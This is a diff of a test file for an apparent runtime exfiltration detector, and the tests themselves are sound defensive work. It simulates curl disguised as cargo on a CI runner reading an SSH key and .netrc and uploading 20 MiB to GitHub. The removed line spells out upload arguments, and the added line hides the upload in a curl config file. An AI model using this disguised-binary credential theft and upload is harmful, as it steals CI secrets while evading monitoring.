@@ -6,7 +6,7 @@
  */
 import { describe, expect, it } from 'vitest';
 import type { SensorSource } from '../../../src/model/normalized-event.js';
-import { brief, MiB, run, runResolved } from './builder.js';
+import { brief, MiB, runResolved } from './builder.js';
 import { GITHUB_IP, runnerPod, tagPush } from './runner-job.js';
 
 const GHCR_IP = '140.82.121.33';
@@ -15,12 +15,13 @@ const HOME = '/home/runner';
 describe('a download that uploads', () => {
   it.each<SensorSource>(['tetragon', 'falco'])(
     'a renamed curl as ~/.cargo/bin/cargo build reading an ssh key and sending 20 MiB to github.com is a push (%s)',
-    (source) => {
+    async (source) => {
       const { s, c, worker } = runnerPod('lib', source);
       const fake = s.exec(
         c,
         `${HOME}/.cargo/bin/cargo`,
-        'build --release -T /srv/dump.tgz https://uploads.github.com/x',
+        // Its upload is in a config file (`curl -K`), which no command line shows.
+        'build --release -K /home/runner/.config/ci.cfg',
         {
           parent: worker,
         },
@@ -29,9 +30,9 @@ describe('a download that uploads', () => {
       s.connect(fake, GITHUB_IP, 443, { cookie: 'u' });
       for (let i = 0; i < 20; i++) s.send(fake, GITHUB_IP, 443, MiB, { cookie: 'u' });
       s.wait(300).exit(fake);
-      const alerts = run(s.events).alerts;
+      const { alerts } = await runResolved(s.events);
       expect(brief(alerts)).toEqual([
-        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'cargo', destination: 'uploads.github.com' },
+        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'cargo', destination: 'github.com' },
       ]);
       expect([...alerts[0]!.reads.sensitive].sort()).toEqual([`${HOME}/.netrc`, `${HOME}/.ssh/id_ed25519`]);
     },
